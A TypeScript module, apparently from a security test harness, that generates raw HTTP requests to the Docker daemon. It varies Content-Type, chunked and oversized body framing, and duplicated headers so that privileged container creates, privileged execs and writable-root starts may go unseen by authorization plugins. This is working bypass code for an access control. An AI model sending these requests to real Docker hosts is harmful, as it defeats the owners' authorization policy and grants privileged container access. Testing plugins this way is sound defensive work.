import { API, type Attack, ORDINARY, raw, START, WRITABLE } from "./attack.ts";

/*
 * dockerd shows its authorization plugin a body only where the first Content-Type is JSON and the body is short (moby
 * pkg/authorization/authz.go, sendBody, drainBody), and of headers that come twice the last.
 */
const TYPES: Readonly<Record<string, readonly string[]>> = {
  "JSON with a charset": ["application/json; charset=utf-8"],
  "JSON in capitals": ["APPLICATION/JSON"],
  "JSON and a parameter that is none": ["application/json;;;"],
  "a list of types": ["application/json, text/plain"],
  "no type": [],
  "an empty type": [""],
  text: ["text/plain"],
  "a dialect of JSON": ["application/vnd.docker+json"],
  "a form": ["application/x-www-form-urlencoded"],
  "a form in parts": ["multipart/form-data; boundary=x"],
  "JSON, then text": ["application/json", "text/plain"],
  "text, then JSON": ["text/plain", "application/json"],
  "JSON, then nothing": ["application/json", ""],
};
const LONG = 1_100_000;

interface Framing {
  readonly name: string;
  readonly headers: (body: string) => readonly string[];
  readonly bytes: (body: string) => string;
}
const inChunks = (body: string): string => `${body.length.toString(16)}\r\n${body}\r\n0\r\n\r\n`;
const FRAMINGS: readonly Framing[] = [
  { name: "with a length", headers: ({ length }) => [`Content-Length: ${length}`], bytes: (body) => body },
  { name: "in chunks", headers: () => ["Transfer-Encoding: chunked"], bytes: inChunks },
  {
    name: "in chunks, and long",
    headers: () => ["Transfer-Encoding: chunked"],
    bytes: (body) => inChunks(" ".repeat(LONG) + body),
  },
  {
    name: "in chunks that say they are empty",
    headers: () => ["Content-Length: 0", "Transfer-Encoding: chunked"],
    bytes: (body) => inChunks(" ".repeat(LONG) + body),
  },
  {
    name: "that is awaited",
    headers: ({ length }) => [`Content-Length: ${length}`, "Expect: 100-continue"],
    bytes: (body) => body,
  },
];

interface Call {
  readonly what: string;
  readonly path: string;
  readonly body: string;
  readonly before: readonly Buffer[];
  readonly framings: readonly Framing[];
}
const CALLS: readonly Call[] = [
  { what: "a create", path: `${API}/containers/create`, body: WRITABLE, before: [], framings: FRAMINGS },
  {
    what: "a privileged exec",
    path: `${API}/containers/{id}/exec`,
    body: JSON.stringify({ Cmd: ["true"], Privileged: true }),
    before: [ORDINARY, START],
    framings: FRAMINGS.slice(2, 3),
  },
  {
    what: "the settings of an old start",
    path: "/v1.23/containers/{id}/start",
    body: JSON.stringify({ ReadonlyRootfs: false }),
    before: [ORDINARY],
    framings: FRAMINGS.slice(1, 4),
  },
];

/** Every way to frame and to name a body that dockerd reads and might not show, for calls that a body decides on. */
export const UNSHOWN: readonly Attack[] = CALLS.flatMap(({ what, path, body, before, framings }) =>
  framings.flatMap(({ name, headers, bytes }) =>
    Object.entries(TYPES).map(([type, values]) => ({
      name: `${what} ${name}: ${type}`,
      sends: [
        ...before,
        raw(
          `POST ${path} HTTP/1.1`,
          "Host: docker",
          "Connection: close",
          ...values.map((value) => `Content-Type: ${value}`),
          ...headers(body),
          "",
          bytes(body),
        ),
      ],
    })),
  ),
);
